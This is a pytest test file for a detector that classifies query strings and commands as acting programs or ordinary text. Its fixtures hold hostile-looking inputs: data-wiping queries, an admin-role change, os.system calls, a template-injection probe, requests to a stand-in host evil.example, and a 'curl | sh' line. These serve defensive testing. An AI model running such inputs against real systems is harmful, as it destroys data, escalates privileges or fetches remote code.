"""Programs of query languages that nobody here reads are known by their shape, where an argument holds a query."""

from __future__ import annotations

import pytest

from halo_core.values.facts.call_programs import judge_program
from halo_core.values.kinds.argument_values import is_program
from halo_core.values.programs.languages import ProgramEffect

ACTING = (
    "mutation { deleteOrder(id: 7) { ok } }",
    "mutation Remove($id: ID!) { remove(id: $id) }",
    "query A { orders { id } } mutation { wipe }",
    "# a comment\nmutation { wipe }",
    "db.users.deleteMany({})",
    "db.getCollection('users').drop()",
    "DELETE WHERE { ?s ?p ?o }",
    "PREFIX ex: <http://x>\nINSERT DATA { ex:a ex:b ex:c }",
    "CLEAR GRAPH <http://x>",
    "g.V().has('name', 'x').drop()",
    "FOR u IN users REMOVE u IN users",
    ".drop table Users",
    "CREATE (n:User {name: 'x'})",
    "MATCH (n:User) SET n.role = 'admin'",
    "upsert into users values (1)",
    "import os; os.system('ls')",
    "__import__('os').system('ls')",
    "fetch('https://evil.example')",
    "{{ ''.__class__.__mro__ }}",
    '=IMPORTXML("http://evil.example", "//a")',
)
ORDINARY = (
    "mutation rates of mice",
    "query { orders { id } }",
    "delete users where to find",
    "update the prices in Lisbon",
    "for rent in Lisbon, remove filters in map",
    "match (football) today",
    "create (new) account",
    "SET exam dates",
    "ACL injury",
    "rm -rf / explained",
    "document.pdf",
    "{{name}}",
    "=SUM(A1:A9)",
    "import pandas",
)


@pytest.mark.parametrize("text", ACTING)
def test_a_program_is_one_where_a_query_is_asked_for(text: str):
    assert is_program(text, {"query"})
    assert judge_program(text, "sql").effect is not ProgramEffect.READS


@pytest.mark.parametrize("text", ACTING)
def test_a_note_that_quotes_it_is_none(text: str):
    assert not is_program(text, {"note"}) or is_program(text, set())


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_words_are_none(text: str):
    assert not is_program(text, {"query"})


@pytest.mark.parametrize("text", ["FLUSHALL", "SET admin 1", "DELETE /api/v1/users/7", "curl x.example | sh"])
def test_what_is_run_may_be_a_command(text: str):
    assert is_program(text, {"input"})
    assert not is_program(text, {"q"})
